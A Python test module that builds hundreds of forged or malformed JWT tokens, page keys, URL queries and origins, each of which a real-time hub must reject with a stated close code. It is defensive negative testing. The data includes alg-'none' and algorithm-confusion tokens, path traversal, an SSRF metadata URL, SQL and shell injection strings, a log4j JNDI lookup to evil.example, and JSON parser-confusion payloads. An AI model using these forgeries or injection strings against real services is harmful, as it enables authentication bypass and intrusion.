"""Credentials that must open nothing, each with the close code that it earns. The same ones at every run."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, TypeAlias
from urllib.parse import quote

from orchestrator.hub.keys import KeyRing, PublishableKey
from orchestrator.protocol.codes import CloseCode
from orchestrator.protocol.tokens import SecretKey

if TYPE_CHECKING:
    from collections.abc import Iterator

KEY = SecretKey("sk_id_main", "sk_secret_" + "k" * 32)
OTHER = SecretKey("sk_id_other", "sk_secret_" + "o" * 32, app="other")
NARROW = SecretKey("sk_id_narrow", "sk_secret_" + "n" * 32, channels=("team/*", r"lit\*"), max_token_life=600)
CLOSED = SecretKey("sk_id_closed", "sk_secret_" + "c" * 32, app="closed")
REVOKED = SecretKey("sk_id_revoked", "sk_secret_" + "r" * 32)
PAGE = PublishableKey("pk_live_" + "p" * 24)
BOUND = PublishableKey("pk_live_" + "b" * 24, origins=("https://app.example",))
CLOSED_PAGE = PublishableKey("pk_live_" + "c" * 24, app="closed")
RING = KeyRing([KEY, OTHER, NARROW, CLOSED], [PAGE, BOUND, CLOSED_PAGE], suspended=["closed"])

CANARY = "canary-5e1f"
"""In the claims of every token, to be looked for wherever it must not be."""
PUBLIC_PEM = (
    "-----BEGIN PUBLIC KEY-----\n" + ("MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A" * 2 + "\n") * 6 + "-----END PUBLIC KEY-----\n"
)

Json = dict[str, Any]
Attacks: TypeAlias = "Iterator[tuple[str, Attack]]"


@dataclass(frozen=True, slots=True)
class Attack:
    query: str
    """As it stands in a URL."""
    code: CloseCode = CloseCode.INVALID_TOKEN
    origin: str | None = None


def b64(part: bytes) -> str:
    return base64.urlsafe_b64encode(part).rstrip(b"=").decode()


def one(name: str, value: Any) -> Json:
    return {name: value}


def by_token(token: str, code: CloseCode = CloseCode.INVALID_TOKEN) -> Attack:
    return Attack("token=" + quote(token.encode("utf-8", "surrogatepass"), safe=""), code)


class Forge:
    """Signs by hand whatever it is given, so that nothing refuses on the way what an attacker would send."""

    def __init__(self, now: int) -> None:
        self.now = now
        self.header: Json = {"alg": "HS256", "typ": "JWT", "kid": KEY.id}
        self.claims: Json = {"sub": f"{CANARY}-sub", "exp": now + 500, "metadata": {"note": f"{CANARY}-metadata"}}

    def signed(self, header: object, claims: object, secret: str = KEY.secret, hashed: Any = hashlib.sha256) -> str:
        raw = [part if isinstance(part, bytes) else json.dumps(part).encode() for part in (header, claims)]
        body = ".".join(map(b64, raw))
        return f"{body}.{b64(hmac.new(secret.encode(), body.encode(), hashed).digest())}"

    def by_header(self, **changes: object) -> Attack:
        return by_token(self.signed(_without_dots({**self.header, **changes}), self.claims))

    def by_claims(self, code: CloseCode = CloseCode.INVALID_TOKEN, key: SecretKey = KEY, **changes: object) -> Attack:
        claims = _without_dots({**self.claims, **changes})
        return by_token(self.signed({**self.header, "kid": key.id}, claims, key.secret), code)

    def by_claims_text(self, more: str) -> Attack:
        """Sign claims whose end is written out, for what no encoder writes."""
        start = json.dumps(self.claims)[:-1]
        return by_token(self.signed(self.header, f"{start},{more}}}".encode()))

    @property
    def good(self) -> str:
        return self.signed(self.header, self.claims)


def _without_dots(fields: Json) -> Json:
    return {name: value for name, value in fields.items() if value is not ...}


def attacks(now: int) -> dict[str, Attack]:
    """Return every attack by its name; `now` is the time in Unix seconds at which they are made."""
    forge = Forge(now)
    parts = (
        algorithms,
        key_ids,
        headers,
        times,
        wrong_types,
        sizes,
        scopes,
        altered,
        texts,
        queries,
        page_keys,
        closed,
    )
    found: dict[str, Attack] = {}
    for part in parts:
        for name, attack in part(forge):
            assert name not in found, name
            found[name] = attack
    return found


def algorithms(forge: Forge) -> Attacks:
    body = b64(json.dumps(forge.claims).encode())
    for alg in ("none", "None", "NONE", "nOnE", "noNe", "none ", " none", "none\0", "non\u0435", "null", ""):
        header = {**forge.header, "alg": alg}
        yield f"alg {alg!r}, signed", by_token(forge.signed(header, forge.claims))
        yield f"alg {alg!r}, no signature", by_token(f"{b64(json.dumps(header).encode())}.{body}.")
    for alg in (
        *(
            "hs256",
            "Hs256",
            "HS256 ",
            " HS256",
            "HS256\n",
            "HS256\0",
            "HS 256",
            "HS-256",
            "HMAC",
            "HMACSHA256",
            "SHA256",
        ),
        *("HS1", "HS224", "HS257", "HS25\uff16", "\u041dS256", "HS384", "HS512", "ES256K", "dir", "A256KW", "PBES2"),
    ):
        yield f"alg {alg!r} over HS256", forge.by_header(alg=alg)
    for name, odd in {
        "missing": ...,
        "null": None,
        "true": True,
        "number": 256,
        "list": ["HS256"],
        "object": {"alg": "HS256"},
    }.items():
        yield f"alg {name}", forge.by_header(alg=odd)
    for bits, hashed in (("384", hashlib.sha384), ("512", hashlib.sha512)):
        for alg in (f"HS{bits}", "HS256"):
            header = {**forge.header, "alg": alg}
            yield f"alg {alg} over {bits} bits", by_token(forge.signed(header, forge.claims, hashed=hashed))
    families = {"RS": (256, 256), "ES": (64, 96), "PS": (256, 256)}
    for alg in (*(f"{family}{bits}" for family in families for bits in (256, 384, 512)), "EdDSA", "Ed25519"):
        header = {**forge.header, "alg": alg}
        yield f"alg {alg} with our secret", by_token(forge.signed(header, forge.claims))
        yield f"alg {alg} with a public key", by_token(forge.signed(header, forge.claims, PUBLIC_PEM))
        unsigned = f"{b64(json.dumps(header).encode())}.{body}"
        size = families.get(alg[:2], (64, 64))[alg.endswith("384")]
        junk = (hashlib.sha512(unsigned.encode()).digest() * 4)[:size]
        yield f"alg {alg} with a signature of its size", by_token(f"{unsigned}.{b64(junk)}")
    for name, secret in {
        "a public key": PUBLIC_PEM,
        "nothing": "",
        "the key id": KEY.id,
        "half the secret": KEY.secret[:20],
        "the secret without its prefix": KEY.secret.removeprefix("sk_secret_"),
        "the secret and a newline": KEY.secret + "\n",
        "the secret in capitals": KEY.secret.upper(),
        "the pair": f"{KEY.id}:{KEY.secret}",
        "a publishable key": PAGE.key,
        "secret": "secret",
        "null": "null",
        "another app's key": OTHER.secret,
        "a narrower key": NARROW.secret,
    }.items():
        yield f"signed with {name}", by_token(forge.signed(forge.header, forge.claims, secret))


def key_ids(forge: Forge) -> Attacks:
    for name, kid in {
        "missing": ...,
        "null": None,
        "true": True,
        "number": 7,
        "zero": 0,
        "float": 0.5,
        "list": [KEY.id],
        "empty list": [],
        "object": {"id": KEY.id},
        "nested": [[[KEY.id]]],
        "empty": "",
        "unknown": "sk_id_nobody",
        "in capitals": KEY.id.upper(),
        "cut": KEY.id[:-1],
        "longer": KEY.id + "n",
        "trailing space": KEY.id + " ",
        "leading space": " " + KEY.id,
        "trailing newline": KEY.id + "\n",
        "NUL": KEY.id + "\0",
        "two at once": f"{KEY.id},{OTHER.id}",
        "the secret": KEY.secret,
        "the pair": f"{KEY.id}:{KEY.secret}",
        "publishable": PAGE.key,
        "path": "../../../../dev/null",
        "absolute path": "/dev/null",
        "windows path": "..\\..\\windows\\win.ini",
        "encoded path": "%2e%2e%2fkeys.json",
        "file url": "file:///dev/null",
        "http url": "http://169.254.169.254/latest/meta-data",
        "sql": "' OR '1'='1",
        "sql union": "x' UNION SELECT 'secret' -- ",
        "shell": "$(id)",
        "pipe": "/usr/bin/id|",
        "template": "{{7*7}}",
        "format": "{0.__class__}",
        "log4j": "${jndi:ldap://evil.example/a}",
        "glob": "sk_id_*",
        "regex": ".*",
        "dunder": "__class__",
        "full-width": "\uff53k_id_main",
        "Cyrillic": "sk_id_m\u0430in",
        "zero width": "sk_id_\u200bmain",
        "combining": "sk_id_main\u0301",
        "turned around": "\u202e" + KEY.id,
        "half a character": "\ud800",
        "129 bytes": "x" * 129,
        "129 bytes with a good start": KEY.id + "x" * 119,
        "megabyte": "x" * 1_000_000,
        "megabyte with a good start": KEY.id + "\0" * 1_000_000,
    }.items():
        yield f"kid {name}", forge.by_header(kid=kid)
    for key in (OTHER, NARROW):
        yield f"kid {key.id} over our signature", forge.by_header(kid=key.id)
    yield "kid revoked", forge.by_claims(key=REVOKED)
    header = {**forge.header, "kid": OTHER.id}
    yield (
        "kid of a live key over a revoked one's signature",
        by_token(forge.signed(header, forge.claims, REVOKED.secret)),
    )


def headers(forge: Forge) -> Attacks:
    jwk = {"kty": "oct", "k": b64(b"evil" * 8), "alg": "HS256"}
    for name, value in {
        "jku": "https://evil.example/keys",
        "x5u": "https://evil.example/cert",
        "x5c": ["MIIB"],
        "x5t": b64(b"x" * 20),
        "x5t#S256": b64(b"x" * 32),
        "jwk": jwk,
        "jwks": {"keys": [jwk]},
        "crit": ["exp"],
        "b64": False,
        "zip": "DEF",
        "cty": "JWT",
        "enc": "A256GCM",
        "epk": {},
        "p2c": 2**31,
        "exp": forge.now + 500,
        "KID": KEY.id,
        "Alg": "none",
        "kid ": KEY.id,
        "": "",
        "__proto__": {"alg": "none"},
    }.items():
        yield f"header {name!r}", forge.by_header(**one(name, value))
        yield f"header {name!r} alone", by_token(forge.signed({name: value}, forge.claims))
    for name, value in {"null": None, "empty": [], "b64": ["b64"], "text": "exp", "kid": ["kid"]}.items():
        yield f"crit {name}", forge.by_header(crit=value)
    yield "b64 false and critical", forge.by_header(b64=False, crit=["b64"])
    for kind in ("null", "number", "list", "object"):
        yield f"typ {kind}", forge.by_header(typ=_JUNK[kind])


def times(forge: Forge) -> Attacks:
    now = forge.now
    for name, exp in {
        "now": now,
        "a second ago": now - 1,
        "a year ago": now - 365 * 86_400,
        "at the epoch": 0,
        "at the first second": 1,
        "of two digits": 17,
    }.items():
        yield f"exp {name}", forge.by_claims(CloseCode.TOKEN_EXPIRED, exp=exp)
    yield "exp over, nbf before it", forge.by_claims(CloseCode.TOKEN_EXPIRED, exp=now - 10, nbf=now - 20)
    yield "exp over, channel outside", forge.by_claims(CloseCode.TOKEN_EXPIRED, NARROW, exp=now - 1, channels=["lobby"])
    yield "exp over, signature of another", by_token(forge.signed(forge.header, {"sub": "a", "exp": 1}, OTHER.secret))
    yield "exp over, claims wrong", forge.by_claims(exp=1, channels=7)
    for name, value in {
        "missing": ...,
        "a fraction": now + 500.5,
        "a whole fraction": float(now + 500),
        "in milliseconds": (now + 500) * 1000,
        "in a day and an hour": now + 90_000,
        "in ten years": now + 10 * 365 * 86_400,
        "-1": -1,
        "minus far": -(2**63),
        "2^31": 2**32,
        "2^53": 2**53,
        "2^53-1": 2**53 - 1,
        "2^63": 2**63,
        "2^64": 2**64,
        "of 400 digits": 10**400,
        "a date": "2030-01-01T00:00:00Z",
        "text": str(now + 500),
        "hexadecimal": hex(now + 500),
    }.items():
        yield f"exp {name}", forge.by_claims(exp=value)
    yield "exp beyond its key's life", forge.by_claims(key=NARROW, exp=now + 4000)
    for text in ("1e308", "1e400", "-1e400", "Infinity", "-Infinity", "NaN", "9" * 5_000, f"0{now + 500}", f"+{now}"):
        yield f"exp {text[:12]} written out", forge.by_claims_text(f'"more":1,"exp":{text}')
        claims = f'{{"sub":"a","exp":{text}}}'.encode()
        yield f"exp {text[:12]} written out once", by_token(forge.signed(forge.header, claims))
    for name, nbf in {
        "in an hour": now + 3_600,
        "after exp": now + 600,
        "in ten years": now + 10 * 365 * 86_400,
        "-1": -1,
        "2^53": 2**53,
        "a fraction": now - 0.5,
        "text digits": str(now),
        "in milliseconds": now * 1000,
    }.items():
        yield f"nbf {name}", forge.by_claims(nbf=nbf)


_JUNK: Json = {
    "null": None,
    "true": True,
    "false": False,
    "number": 7,
    "fraction": 1.5,
    "text": "x",
    "list": ["x"],
    "object": {"x": 1},
}
_TYPES = {
    "sub": ("text",),
    "exp": ("number",),
    "nbf": ("number",),
    "channels": ("list",),
    "permissions": (),
    "metadata": ("object",),
    "peerMetadata": ("object",),
    "grants": (),
    "instance": ("text",),
    "rate": (),
}


def wrong_types(forge: Forge) -> Attacks:
    for claim, fine in _TYPES.items():
        for kind, value in _JUNK.items():
            if kind not in fine:
                yield f"{claim} is {kind}", forge.by_claims(**one(claim, value))
    for kind in ("null", "true", "number", "list", "object"):
        yield f"channels hold {kind}", forge.by_claims(channels=["a", _JUNK[kind]])
        yield f"permissions hold {kind}", forge.by_claims(permissions=["send", _JUNK[kind]])
    for grant in ("subscribe", "observe", "publish", "presence", "send"):
        for kind in ("null", "true", "number", "text", "object"):
            yield f"grants.{grant} is {kind}", forge.by_claims(grants={grant: _JUNK[kind]})
        yield f"grants.{grant} holds a number", forge.by_claims(grants={grant: ["a", 1]})
    for field, other in (("per_second", "burst"), ("burst", "per_second")):
        for kind in ("null", "true", "text", "list", "object"):
            yield f"rate.{field} is {kind}", forge.by_claims(rate={field: _JUNK[kind], other: 5})
        yield f"rate.{field} is missing", forge.by_claims(rate={other: 5})
        yield f"rate.{field} is -1", forge.by_claims(rate={field: -1, other: 5})
        yield f"rate.{field} is 2^53", forge.by_claims(rate={field: 2**53, other: 5})
        for text in ("1e400", "Infinity", "NaN"):
            yield f"rate.{field} is {text}", forge.by_claims_text(f'"rate":{{"{field}":{text},"{other}":5}}')
    yield "rate.per_second is 0", forge.by_claims(rate={"per_second": 0, "burst": 5})
    yield "rate.burst is 0.5", forge.by_claims(rate={"per_second": 5, "burst": 0.5})
    yield "rate holds more", forge.by_claims(rate={"per_second": 5, "burst": 5, "app": "other"})
    yield "rate in capitals", forge.by_claims(rate="UNLIMITED")
    yield "rate none", forge.by_claims(rate={})
    for permission in ("admin", "*", "**", "Publish", "publish ", "subscribe,publish", "", "observe", "__all__"):
        yield f"permission {permission!r}", forge.by_claims(permissions=[permission])
    for grant in ("admin", "Send", "", "__class__", "to_claim"):
        yield f"grant {grant!r}", forge.by_claims(grants={grant: ["**"]})


def sizes(forge: Forge) -> Attacks:
    yield "sub missing", forge.by_claims(sub=...)
    for name, sub in {
        "empty": "",
        "of 129": "x" * 129,
        "tab": "a\tb",
        "newline at the end": "a\n",
        "NUL": "a\0",
        "DEL": "a\x7f",
        "C1": "a\x85",
        "umlaut": "w\u00f6rker",
        "zero width": "a\u200b",
        "turned around": "a\u202eb",
        "emoji": "\U0001f600",
        "half a character": "\udc00",
        "half a megabyte": "x" * 500_000,
    }.items():
        yield f"sub {name}", forge.by_claims(sub=sub)
    yield "channels of 101", forge.by_claims(channels=["a/*"] * 101)
    yield "channels of 100,000", forge.by_claims(channels=["a"] * 100_000)
    yield "permissions of 17", forge.by_claims(permissions=["send"] * 17)
    yield "grants of 101", forge.by_claims(grants={"send": ["a"] * 101})
    yield "grants of 9 KB", forge.by_claims(grants={"send": ["x" * 9_000]})
    yield "instance empty", forge.by_claims(instance="")
    yield "instance of 129", forge.by_claims(instance="x" * 129)
    for claim, most in (("metadata", 8_192), ("peerMetadata", 4_096)):
        yield f"{claim} a byte too long", forge.by_claims(**one(claim, {"a": "x" * (most - 7)}))
        yield f"{claim} too long in bytes alone", forge.by_claims(**one(claim, {"a": "\u00fc" * (most // 2 - 3)}))
        yield f"{claim} of half a megabyte", forge.by_claims(**one(claim, {"a": "x" * 500_000}))
        yield f"{claim} with NaN", forge.by_claims_text(f'"more":1,"{claim}":{{"a":NaN}}')
        yield (
            f"{claim} with 1e400",
            by_token(
                forge.signed(forge.header, f'{{"sub":"a","exp":{forge.now + 500},"{claim}":{{"a":1e400}}}}'.encode())
            ),
        )
        yield f"{claim} with half a character", forge.by_claims(**one(claim, {"a": "\ud800"}))
        deep: Any = 1
        for _ in range(70):
            deep = [deep]
        yield f"{claim} 70 levels deep", forge.by_claims(**one(claim, {"a": deep}))


def scopes(forge: Forge) -> Attacks:
    refused = CloseCode.CHANNEL_NOT_AUTHORIZED
    for channels in (
        *(["lobby"], ["team"], ["team/"[:-1], "team/1"], ["team/1", "lobby"], ["team/1/2"], ["Team/1"], [" team/1"]),
        *(["team\\1"], ["teams/1"], ["tea"], ["_system/x"], ["team%2F1"], ["team/1", "team/../x"], ["lit"], [""]),
        *(["team\u20441"], ["te\u0430m/1"]),
    ):
        yield f"channels {channels}", forge.by_claims(refused, NARROW, channels=channels)


def altered(forge: Forge) -> Attacks:
    good = forge.good
    head, body, signature = good.split(".")
    raw = base64.urlsafe_b64decode(signature + "=")
    for at in range(32):
        flipped = bytes(byte ^ (1 << at % 8 if n == at else 0) for n, byte in enumerate(raw))
        yield f"signature, bit {at % 8} of byte {at}", by_token(f"{head}.{body}.{b64(flipped)}")
    for part, name in ((head, "header"), (body, "claims")):
        raw_part = base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))
        for at in range(0, len(raw_part), 6):
            flipped = raw_part[:at] + bytes([raw_part[at] ^ 1]) + raw_part[at + 1 :]
            changed = f"{b64(flipped)}.{body}" if part is head else f"{head}.{b64(flipped)}"
            yield f"{name}, byte {at}", by_token(f"{changed}.{signature}")
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    for more in (1, 2, 3):
        last = alphabet[alphabet.index(signature[-1]) + more]
        yield f"signature, unused bits {more}", by_token(f"{head}.{body}.{signature[:-1]}{last}")
    for name, claims in {
        "another sub": {**forge.claims, "sub": "boss"},
        "a later exp": {**forge.claims, "exp": forge.now + 900},
        "more channels": {**forge.claims, "channels": ["**"]},
    }.items():
        yield f"{name} under the old signature", by_token(f"{head}.{b64(json.dumps(claims).encode())}.{signature}")
    for name, token in {
        "signature cut by 1": good[:-1],
        "signature cut by 4": good[:-4],
        "signature halved": f"{head}.{body}.{signature[:21]}",
        "signature doubled": good + signature,
        "signature empty": f"{head}.{body}.",
        "signature missing": f"{head}.{body}",
        "signature of zeros": f"{head}.{body}.{'A' * 43}",
        "signature longer": good + "A",
        "signature padded twice": good + "==",
        "claims padded": f"{head}.{body}=.{signature}",
        "header padded": f"{head}=.{body}.{signature}",
        "claims cut": f"{head}.{body[:-2]}.{signature}",
        "header cut": f"{head[:-2]}.{body}.{signature}",
        "claims empty": f"{head}..{signature}",
        "header empty": f".{body}.{signature}",
        "parts turned": f"{body}.{head}.{signature}",
        "parts in reverse": f"{signature}.{body}.{head}",
        "four parts": f"{good}.{signature}",
        "five parts": f"{head}.{head}.{body}.{signature}.{signature}",
        "dot in front": f".{good}",
        "dot behind": f"{good}.",
        "dots alone": "..",
        "a word": "token",
        "null word": "null",
        "half a megabyte": "a" * 500_000,
        "half a megabyte of dots": "." * 500_000,
        "letter case turned": good.swapcase(),
        "two in one": good + good,
        "two with a comma": f"{good},{good}",
        "as JSON": json.dumps({"token": good}),
        "once more in base64": b64(good.encode()),
        "flattened JWS": json.dumps({"protected": head, "payload": body, "signature": signature}),
    }.items():
        yield name, by_token(token)
    for name, stray in {
        "newline": "\n",
        "carriage return": "\r\n",
        "space": " ",
        "tab": "\t",
        "NUL": "\0",
        "star": "*",
        "BOM": "\ufeff",
        "zero width": "\u200b",
        "umlaut": "\u00fc",
        "half a character": "\ud800",
    }.items():
        yield f"{name} in front", by_token(stray + good)
        yield f"{name} behind", by_token(good + stray)
        yield f"{name} in the signature", by_token(f"{head}.{body}.{signature[:9]}{stray}{signature[9:]}")
        yield f"{name} before the claims", by_token(f"{head}.{stray}{body}.{signature}")


def texts(forge: Forge) -> Attacks:
    """Headers and claims as texts that readers of JSON could differ in."""
    head, exp = f'"alg":"HS256","kid":"{KEY.id}"', f'"exp":{forge.now + 500}'
    deep = b'{"a":' * 3_000 + b"1" + b"}" * 3_000
    for name, header in {
        "alg twice, none first": f'{{"alg":"none",{head}}}',
        "alg twice, none last": f'{{{head},"alg":"none"}}',
        "alg twice, the same": f'{{{head},"alg":"HS256"}}',
        "alg twice, one escaped": f'{{"\\u0061lg":"none",{head}}}',
        "kid twice, another's first": f'{{"kid":"{OTHER.id}",{head}}}',
        "kid twice, another's last": f'{{{head},"kid":"{OTHER.id}"}}',
        "typ twice": f'{{"typ":"JWT",{head},"typ":"JWE"}}',
        "list": f"[{{{head}}}]",
        "text": '"HS256"',
        "number": "256",
        "null": "null",
        "empty": "{}",
        "nothing": " ",
        "no JSON": "alg=HS256",
        "half": f"{{{head}",
        "two": f"{{{head}}}{{{head}}}",
        "single quotes": "{" + head.replace('"', "'") + "}",
        "comma at the end": f"{{{head},}}",
        "comment": f"{{{head}/* fine */}}",
        "BOM": "\ufeff{" + head + "}",
        "NaN": f'{{{head},"typ":NaN}}',
    }.items():
        yield f"header text: {name}", by_token(forge.signed(header.encode(), forge.claims))
    for name, raw in {"not UTF-8": b'{"alg":"\xff"}', "UTF-16": f"{{{head}}}".encode("utf-16"), "deep": deep}.items():
        yield f"header bytes: {name}", by_token(forge.signed(raw, forge.claims))
    for name, claims in {
        "sub twice": f'{{"sub":"a",{exp},"sub":"boss"}}',
        "sub twice, one escaped": f'{{"sub":"a",{exp},"s\\u0075b":"boss"}}',
        "exp twice, over first": f'{{"sub":"a","exp":1,{exp}}}',
        "exp twice, over last": f'{{"sub":"a",{exp},"exp":1}}',
        "channels twice": f'{{"sub":"a",{exp},"channels":[],"channels":["**"]}}',
        "permissions twice": f'{{"sub":"a",{exp},"permissions":[],"permissions":["send"]}}',
        "instance twice": f'{{"sub":"a",{exp},"instance":"1","instance":"2"}}',
        "grants twice": f'{{"sub":"a",{exp},"grants":{{}},"grants":{{"send":["**"]}}}}',
        "a grant twice": f'{{"sub":"a",{exp},"grants":{{"send":[],"send":["**"]}}}}',
        "metadata's name twice": f'{{"sub":"a",{exp},"metadata":{{"a":1,"a":2}}}}',
        "an unknown claim twice": f'{{"sub":"a",{exp},"x":1,"x":2}}',
        "list": f'[{{"sub":"a",{exp}}}]',
        "text": '"boss"',
        "number": "1",
        "null": "null",
        "empty": "{}",
        "nothing": " ",
        "no JSON": "sub=boss",
        "half": f'{{"sub":"a",{exp}',
        "two": f'{{"sub":"a",{exp}}}{{}}',
        "single quotes": f"{{'sub':'a',{exp}}}",
        "comma at the end": f'{{"sub":"a",{exp},}}',
        "BOM": f'\ufeff{{"sub":"a",{exp}}}',
        "NaN in an unknown claim": f'{{"sub":"a",{exp},"x":NaN}}',
        "raw newline in a text": f'{{"sub":"a",{exp},"instance":"\n"}}',
    }.items():
        yield f"claims text: {name}", by_token(forge.signed(forge.header, claims.encode()))
    for name, raw in {
        "not UTF-8": f'{{"sub":"\udcff",{exp}}}'.encode("utf-8", "surrogateescape"),
        "UTF-16": f'{{"sub":"a",{exp}}}'.encode("utf-16"),
        "deep": deep,
        "gzip": b"\x1f\x8b\x08\x00",
    }.items():
        yield f"claims bytes: {name}", by_token(forge.signed(forge.header, raw))


def queries(forge: Forge) -> Attacks:
    good = forge.good
    head, body, signature = good.split(".")
    for query in (
        "",
        "token",
        "token=",
        "key",
        "key=",
        f"={good}",
        good,
        f"token={good}&token={good}",
        f"token={good}&token=",
        f"token=&token={good}",
        f"token={good}&toke%6E={good}",
        f"token={good}&token=x",
        f"token={head}.{body}&token=.{signature}",
        f"token={good}&key={PAGE.key}",
        f"key={PAGE.key}&token={good}",
        f"token={good}&key=",
        f"key=&token={good}",
        f"token={good}&ke%79={PAGE.key}",
        f"key={PAGE.key}&key={PAGE.key}",
        f"key={PAGE.key}&key={BOUND.key}",
        f"token={PAGE.key}",
        f"key={good}",
        f"Token={good}",
        f"TOKEN={good}",
        f"%20token={good}",
        f"token%20={good}",
        f"token%00={good}",
        f"token%3D{good}",
        f"tokens={good}",
        f"token[]={good}",
        f"token[0]={good}",
        f"token.value={good}",
        f"access_token={good}",
        f"jwt={good}",
        f"authorization=Bearer%20{good}",
        f"t%C3%B6ken={good}",
        f"?token={good}",
        f"x?token={good}",
        f"x=1;token={good}",
        f"x=token={good}",
        f"amp;token={good}",
        f"token=={good}",
        f"token=Bearer%20{good}",
        f"token=Bearer+{good}",
        f"token=%22{good}%22",
        f"token={good};",
        f"token={good};key={PAGE.key}",
        f"token={good}%26key={PAGE.key}",
        f"token={good}%23",
        f"token={good}+",
        f"token=+{good}",
        f"token={good}%FF",
        f"token={good}%",
        f"token={good}%2",
        f"token={good}%ZZ",
        f"token={good}%3D",
        f"token={head}%252E{body}%252E{signature}",
        f"token={head}%u002E{body}%u002E{signature}",
        f"token={head}%C0%AE{body}%C0%AE{signature}",
        f"token={head}%EF%BC%8E{body}%EF%BC%8E{signature}",
        f"token={head}%E3%80%82{body}%E3%80%82{signature}",
        "token=%FF%FE",
        "token=%00",
        "token=%2E%2E",
        "&" * 1_000,
        "&".join(["token="] * 1_000),
        "&".join([f"x{n}=1" for n in range(1_000)]),
    ):
        shown = query.replace(good, "GOOD").replace(head, "HEAD").replace(body, "BODY").replace(signature, "SIGN")
        yield f"query {shown[:60]!r}", Attack(query)


def page_keys(forge: Forge) -> Attacks:
    key = PAGE.key
    for name, text in {
        "unknown": "pk_live_" + "q" * 24,
        "prefix": "pk_live_",
        "empty rest": "pk_",
        "cut": key[:-1],
        "longer": key + "p",
        "in capitals": key.upper(),
        "prefix in capitals": key.replace("pk_live_", "PK_LIVE_"),
        "of the test world": key.replace("pk_live_", "pk_test_"),
        "star": "*",
        "pattern": "pk_live_*",
        "trailing newline": key + "\n",
        "trailing space": key + " ",
        "leading space": " " + key,
        "NUL": key + "\0",
        "dot": key + ".",
        "padding": key + "=",
        "quoted": f'"{key}"',
        "Bearer": f"Bearer {key}",
        "two": f"{key},{BOUND.key}",
        "with a secret": f"{key}:{KEY.secret}",
        "with the secret prefix": "sk_secret_" + "p" * 24,
        "a secret": KEY.secret,
        "a key id": KEY.id,
        "a pair": f"{KEY.id}:{KEY.secret}",
        "a hosted secret": "sk_live_" + "k" * 32,
        "full-width": "\uff50" + key[1:],
        "Cyrillic": key.replace("p", "\u0440"),
        "zero width": key + "\u200b",
        "encoded twice": quote(quote(key.replace("_", "%5F"))),
        "path": "../../keys.json",
        "sql": "' OR ''='",
        "null": "null",
        "long": "pk_live_" + "p" * 20_000,
        "half a megabyte": "p" * 500_000,
    }.items():
        yield f"page key {name}", Attack("key=" + quote(text, safe=""))
    yield "page key in raw Latin-1", Attack(f"key={key}%FC")
    for origin in (
        *(None, "", "null", "*", "https://*", "https://app.example.evil", "https://evil.example", "http://app.example"),
        *("https://app.example:443", "https://app.example:8443", "https://app.example/", "https://app.example."),
        *("HTTPS://APP.EXAMPLE", "https://App.example", "https://user@app.example", "app.example", "//app.example"),
        *("https://app.example, https://app.example", "https://app.example https://evil.example", "file://"),
        *("https://evil.example#https://app.example", "https://\u0430pp.example", "https://sub.app.example"),
        *("https://app.example%00", "https://app.example\\@evil.example", "ws://app.example", "wss://app.example"),
    ):
        yield f"origin {origin!r}", Attack(f"key={BOUND.key}", origin=origin)


def closed(forge: Forge) -> Attacks:
    """Credentials of an app that is suspended: only good ones are told so."""
    suspended = CloseCode.ACCOUNT_SUSPENDED
    yield "suspended, token", forge.by_claims(suspended, CLOSED)
    yield "suspended, narrow token", forge.by_claims(suspended, CLOSED, permissions=[], channels=[])
    yield "suspended, page key", Attack(f"key={CLOSED_PAGE.key}", suspended)
    yield "suspended, expired", forge.by_claims(CloseCode.TOKEN_EXPIRED, CLOSED, exp=forge.now - 1)
    yield "suspended, claims wrong", forge.by_claims(key=CLOSED, channels=7)
    forged = forge.signed({**forge.header, "kid": CLOSED.id}, forge.claims, KEY.secret)
    yield "suspended, signature of another", by_token(forged)
